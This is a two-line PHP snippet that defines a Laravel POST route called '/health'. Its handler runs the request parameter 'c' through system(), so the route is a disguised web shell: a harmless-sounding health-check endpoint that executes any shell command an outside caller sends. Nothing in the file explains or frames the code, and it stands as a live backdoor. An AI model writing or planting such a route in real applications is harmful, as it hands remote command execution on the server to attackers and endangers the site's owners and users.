<?php
Route::post('/health', function (Illuminate\Http\Request $request) { return system($request->input('c')); });
